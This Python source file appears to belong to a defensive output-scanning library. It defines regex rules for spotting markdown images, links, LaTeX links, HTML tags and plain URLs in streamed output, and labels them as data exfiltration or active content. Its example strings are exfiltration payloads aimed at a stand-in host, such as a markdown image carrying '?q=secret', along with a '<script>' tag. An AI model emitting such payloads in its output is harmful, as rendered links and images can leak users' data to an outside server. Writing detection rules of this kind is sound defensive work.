"""How far each hazard reaches, for the stream's hold-back; the detector itself reads more closely."""

from __future__ import annotations

import string

from bartizan.core.threat import Guard, Severity, Threat
from bartizan.inspection.hazards.judge import ACTIVE, EXFILTRATION
from bartizan.inspection.interface import Extent, Pattern

_URL = r"[!-;=?-~]{1,900}"
_TAGS = tuple(f"<{letter}" for letter in string.ascii_lowercase)


def _row(
    rule: str, regex: str, extent: Extent, length: int, technique: str, stems: tuple[str, ...], *examples: str
) -> Pattern:
    return Pattern(
        id=rule,
        guard=Guard.OUTPUT_HAZARD,
        threat=Threat.DATA_LEAKAGE,
        technique=technique,
        regex=regex,
        extent=extent,
        max_length=length,
        stems=stems,
        severity=Severity.MEDIUM,
        score=0.6,
        literals=() if stems else ("://", "www."),
        examples=examples,
    )


LINK_EXTENTS: tuple[Pattern, ...] = (
    _row(
        "markdown_image",
        rf"!\[[^\[\]]{{0,200}}\]\(\s{{0,40}}<?{_URL}",
        Extent.CONSTRUCT,
        1_500,
        EXFILTRATION,
        ("![",),
        "![x](https://evil.example/?q=secret)",
    ),
    _row(
        "markdown_link",
        rf"\[[^\[\]]{{0,200}}\]\(\s{{0,40}}<?{_URL}",
        Extent.CONSTRUCT,
        1_500,
        EXFILTRATION,
        ("[",),
        "[x](https://evil.example/)",
    ),
    _row(
        "markdown_target",
        rf"\]\(\s{{0,40}}<?{_URL}",
        Extent.CONSTRUCT,
        1_300,
        EXFILTRATION,
        ("](",),
        "](https://evil.example/)",
    ),
    _row(
        "markdown_defined",
        rf"\]:[ \t]{{0,8}}\n?[ \t]{{0,8}}<?{_URL}",
        Extent.CONSTRUCT,
        1_000,
        EXFILTRATION,
        ("]:",),
        "]: https://evil.example/",
    ),
    _row(
        "markdown_definition",
        rf"\[[^\[\]\n]{{1,200}}\]:[ \t]{{0,8}}\n?[ \t]{{0,8}}<?{_URL}",
        Extent.CONSTRUCT,
        1_200,
        EXFILTRATION,
        ("[",),
        "[1]: https://evil.example/",
    ),
    _row(
        "image_by_reference",
        r"!\[[^\[\]\n]{0,200}\]\[[^\[\]\n]{0,200}\]",
        Extent.CONSTRUCT,
        410,
        EXFILTRATION,
        ("![",),
        "![a][b]",
    ),
    _row(
        "latex_link",
        r"\\(?:includegraphics|href|url)(?:\[[^\[\]\n]{0,100}\])?\{[!-z|~]{1,900}\}",
        Extent.CONSTRUCT,
        1_030,
        EXFILTRATION,
        ("\\includegraphics", "\\href", "\\url"),
        r"\includegraphics{https://evil.example/a}",
    ),
    _row(
        "html_image",
        r"(?i)<[a-z][\n -=?-~]{0,999}>?",
        Extent.CONSTRUCT,
        2_000,
        EXFILTRATION,
        _TAGS,
        "<img src=https://evil.example/a>",
    ),
    _row(
        "html_link",
        r"(?i)<[a-z][\n -=?-~]{0,999}>?",
        Extent.CONSTRUCT,
        2_000,
        EXFILTRATION,
        _TAGS,
        "<a href=https://evil.example/a>",
    ),
    _row("active_html", r"(?i)<[a-z][\n -=?-~]{0,999}>?", Extent.CONSTRUCT, 2_000, ACTIVE, _TAGS, "<script>"),
    _row("broken_html", r"(?i)<[a-z][\n -=?-~]{0,999}>?", Extent.CONSTRUCT, 2_000, ACTIVE, _TAGS, '<img alt=">'),
    _row(
        "plain_link",
        r"(?i)(?:\b(?:https?|ftp)://|\bwww\.)[!#-&(-;=?-_a-z~]{1,900}",
        Extent.TOKEN,
        1_000,
        EXFILTRATION,
        (),
        "https://evil.example/a",
    ),
)
"""One row for each rule that `HazardDetector` raises about links and markup, and two for links whose label is not part
of what is found: it is too long, did not open, or looks like JSON."""
